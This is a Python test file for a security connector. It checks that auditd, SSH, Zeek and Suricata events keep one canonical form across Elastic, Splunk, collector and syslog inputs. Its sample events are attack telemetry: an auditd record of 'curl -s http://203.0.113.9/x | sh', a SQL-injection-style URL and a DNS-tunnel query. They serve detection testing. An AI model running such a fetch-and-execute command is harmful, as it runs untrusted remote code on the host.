"""One canonical form of auditd, sshd, Zeek and Suricata events through every door that brings them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from connector.events import canonical, kind_of
from connector.events.normalise import to_ecs
from connector.types import Pairs
from tests.events import vectors

RAW = vectors.golden()

AGENT: dict[str, dict[str, Any]] = {
    "auditd": {
        "event": {
            "dataset": "auditd_manager.auditd",
            "module": "auditd",
            "kind": "event",
            "action": "executed",
            "category": ["process"],
            "type": ["start"],
            "outcome": "success",
        },
        "auditd": {
            "data": {"syscall": "execve", "arch": "x86_64", "exit": "0", "tty": "pts0"},
            "message_type": "syscall",
            "result": "success",
        },
        "user": {"id": "0", "name": "root", "audit": {"id": "1000", "name": "bob"}},
        "process": {
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "curl -s http://203.0.113.9/x | sh"],
            "title": "bash -c curl -s http://203.0.113.9/x | sh",
            "working_directory": "/home/bob",
        },
        "tags": ["T1059_shell"],
    },
    "linux-auth": {
        "event": {
            "dataset": "system.auth",
            "action": "ssh_login",
            "category": ["authentication"],
            "outcome": "failure",
        },
        "process": {"name": "sshd", "pid": 2211},
        "system": {"auth": {"ssh": {"event": "Failed", "method": "password"}}},
        "user": {"name": "admin"},
        "source": {"ip": "203.0.113.9", "port": 51822},
        "message": "Failed password for invalid user admin from 203.0.113.9 port 51822 ssh2",
    },
    "zeek-connection": {
        "event": {"dataset": "zeek.connection", "category": ["network"], "type": ["connection", "start", "end"]},
        "zeek": {"session_id": "CHhAvVGS1DHFjwGM9", "connection": {"state": "SF", "history": "ShADadFf"}},
        "source": {"ip": "10.1.2.3", "port": 49152},
        "destination": {"ip": "203.0.113.9", "port": 443},
        "network": {"transport": "tcp", "protocol": "ssl", "direction": "outbound"},
    },
    "zeek-http": {
        "event": {"dataset": "zeek.http", "category": ["network", "web"]},
        "zeek": {"http": {"resp_mime_types": ["text/html"], "trans_depth": 1}},
        "http": {"request": {"method": "GET"}, "response": {"status_code": 404}},
        "url": {"original": "/a.php?id=1%27--", "domain": "updates.example.com"},
        "user_agent": {"original": "curl/8.0"},
        "source": {"ip": "10.1.2.3"},
        "destination": {"ip": "203.0.113.9", "port": 443},
    },
    "zeek-dns": {
        "event": {"dataset": "zeek.dns", "category": ["network"]},
        "dns": {"question": {"name": "x1.tunnel.example.com", "type": "TXT"}, "response_code": "NOERROR"},
        "network": {"transport": "udp", "protocol": "dns"},
        "source": {"ip": "10.1.2.3"},
        "destination": {"ip": "203.0.113.9", "port": 443},
    },
    "suricata": {
        "event": {"dataset": "suricata.eve", "kind": "alert", "category": ["network", "intrusion_detection"]},
        "suricata": {"eve": {"event_type": "alert", "alert": {"action": "allowed", "metadata": {"mitre": "T1071"}}}},
        "rule": {
            "name": "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad",
            "category": "Potentially Bad Traffic",
        },
        "http": {"request": {"method": "POST"}, "response": {"status_code": 200}},
        "url": {"original": "/gate.php", "domain": "203.0.113.9"},
        "user_agent": {"original": "Mozilla/4.0"},
        "network": {"transport": "tcp", "protocol": "http"},
        "source": {"ip": "10.1.2.3", "port": 50096},
        "destination": {"ip": "203.0.113.9", "port": 80},
    },
}
"""The golden events as the Elastic integrations index them."""

SOURCETYPES = {
    "auditd": "linux:audit",
    "linux-auth": "linux_secure",
    "zeek-connection": "bro:conn:json",
    "zeek-http": "corelight_http",
    "zeek-dns": "bro:dns:json",
    "suricata": "suricata",
}


def form(data: Any) -> Pairs:
    """The canonical form of an event."""
    kind, ecs = to_ecs(data)
    return canonical(ecs, kind)


def text(name: str) -> str:
    """A golden event as the line that a log holds."""
    raw = RAW[name]
    return raw if isinstance(raw, str) else json.dumps(raw)


@pytest.mark.parametrize("name", AGENT)
def test_an_integration_s_document_has_the_form_of_the_raw_record(name: str) -> None:
    assert form(AGENT[name]) == form(RAW[name])
    assert canonical(AGENT[name], kind_of(AGENT[name])) == form(AGENT[name]), "normalising changed a document's form"
    assert form({"_index": "logs", "_id": "1", "_source": AGENT[name]}) == form(RAW[name])


@pytest.mark.parametrize("name", AGENT)
def test_a_splunk_row_has_the_form_of_its_raw_text(name: str) -> None:
    row = {"_raw": text(name), "_time": "1709633472", "sourcetype": SOURCETYPES[name], "host": "web-7", "index": "os"}
    assert form(row) == form(RAW[name])
    assert form({"preview": False, "result": row}) == form(RAW[name])


@pytest.mark.parametrize("name", AGENT)
def test_a_collector_s_envelope_has_the_form_of_what_it_carries(name: str) -> None:
    assert form({"sourcetype": SOURCETYPES[name], "host": "web-7", "event": RAW[name]}) == form(RAW[name])
    assert form(text(name).encode()) == form(RAW[name])


@pytest.mark.parametrize("name", ["zeek-connection", "zeek-http", "zeek-dns"])
def test_zeek_s_records_read_alike_without_a_path_with_nested_ids_and_from_tables(name: str) -> None:
    record = dict(RAW[name])
    path = record.pop("_path")
    assert form(record) == form(RAW[name])
    ids = {key.removeprefix("id."): record.pop(key) for key in list(record) if key.startswith("id.")}
    assert form({**record, "id": ids}) == form(RAW[name])
    row = {key: _cell(value) for key, value in RAW[name].items()}
    assert form({**row, "_path": path}) == form(RAW[name])


def _cell(value: Any) -> str:
    if isinstance(value, bool):
        return "T" if value else "F"
    return ",".join(value) if isinstance(value, list) else str(value)


@pytest.mark.parametrize("frame", ["", "<86>", "<13>"])
def test_a_syslog_priority_does_not_change_what_a_program_said(frame: str) -> None:
    assert form(frame + RAW["linux-auth"]) == form(RAW["linux-auth"])


def test_an_audit_event_that_syslog_carries_reads_as_itself() -> None:
    line = RAW["auditd-login"]
    assert form(f"<13>Mar  5 10:11:12 web-7 audispd: {line}") == form(line)
    assert form(f"node=web-7 {line}") == form(line)
